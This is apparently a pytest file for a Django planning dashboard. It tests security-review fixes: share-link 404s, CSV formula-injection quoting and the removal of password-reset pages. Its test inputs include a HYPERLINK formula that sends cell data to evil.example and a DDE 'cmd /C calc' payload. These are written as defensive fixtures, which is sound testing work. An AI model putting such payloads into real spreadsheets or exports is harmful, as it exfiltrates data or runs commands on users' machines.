"""Findings of the security review, each fixed: a plan's share link has no files (a 404 that
says so, not a 500), CSV cells a spreadsheet would run as formulas are quoted, and the
password-reset pages (no mail is configured) are gone."""

import csv
import io

import pytest

from tests.web.dashboard_helpers import run_chunks, run_queued_runs, spec, strategies
from tierlab.dashboard import comparisons, sweeps
from tierlab.dashboard.models import Plan, ShareLink
from tierlab.scenarios.models import Scenario

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_plan_links_downloads_are_a_404_naming_what_it_has(anon_api, owner):
    plan = Plan.objects.create(owner=owner, name="p", spec={}, total_candidates=0, engine_version="x")
    link = ShareLink.objects.create(owner=owner, plan=plan)
    for name in ("report.json", "export.csv", "deepspeed.json", "nothing.txt"):
        r = anon_api.get(f"/api/v1/shared/{link.token}/{name}")
        assert r.status_code == 404, (name, r.content)
        assert "no files to download" in r.json()["detail"] and name in r.json()["detail"]


def test_a_scenario_links_404_names_its_files(anon_api, owner):
    scenario = Scenario.objects.create(owner=owner, name="s", spec=spec())
    link = ShareLink.objects.create(owner=owner, scenario=scenario)
    detail = anon_api.get(f"/api/v1/shared/{link.token}/export.csv").json()["detail"]
    assert "report.json, deepspeed.json, fsdp.py, megatron.txt" in detail


def _rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("name", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
def test_a_shared_comparisons_csv_quotes_a_name_a_spreadsheet_would_run(owner_api, anon_api, owner, name):
    a, b = strategies(owner, ("zero2", "zero3"))
    Scenario.objects.filter(pk=a.pk).update(name=name, spec=spec(**{"strategy.kind": "zero2", "model.name": name}))
    comparison = comparisons.create_comparison(owner, [a.pk, b.pk], "c")
    run_queued_runs()
    link = ShareLink.objects.create(owner=owner, comparison=comparison)
    rows = _rows(anon_api.get(f"/api/v1/shared/{link.token}/export.csv"))
    assert rows[0][5].startswith("1. ")                 # a number first: no formula
    model_name = next(row for row in rows if row[1] == "model.name")
    assert model_name[5] == "'" + name.replace("\r", "\n") and model_name[6] != name
    for response in (anon_api.get(f"/api/v1/shared/{link.token}/export.csv"),
                     owner_api.get(f"/api/v1/comparisons/{comparison.pk}/export.csv")):
        for row in _rows(response):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                if cell.startswith("-"):
                    float(cell)                           # only a negative number starts so


def test_a_sweeps_csv_quotes_text_and_keeps_negative_numbers(owner_api, owner):
    base = Scenario.objects.create(owner=owner, name="base", spec=spec())
    sweep = sweeps.create_sweep(owner, base.pk, [{"path": "cluster.num_nodes", "values": [1, 2]}])
    run_chunks(sweep)
    chunk = sweep.chunks.first()
    results = chunk.results
    results[0] = {**results[0], "status": "failed", "valid": False, "error": "=cmd|' /C calc'!A0",
                  "step_time_s": -1.5}
    type(chunk).objects.filter(pk=chunk.pk).update(results=results)
    rows = _rows(owner_api.get(f"/api/v1/sweeps/{sweep.pk}/points.csv"))
    header, first = rows[0], rows[1]
    assert first[header.index("error")] == "'=cmd|' /C calc'!A0"
    assert first[header.index("step_time_s")] == "-1.5"     # a number, not text: as it is


def test_password_reset_pages_are_gone_and_login_logout_change_stay(client, owner):
    for url in ("/accounts/password_reset/", "/accounts/password_reset/done/",
                "/accounts/reset/MQ/set-password/", "/accounts/reset/done/"):
        assert client.get(url).status_code == 404, url
        assert client.post(url, {"email": "a@example.com"}).status_code == 404, url
    assert client.get("/accounts/login/").status_code == 200
    client.force_login(owner)
    assert client.get("/accounts/password_change/").status_code == 200
    assert client.post("/accounts/logout/").status_code == 302
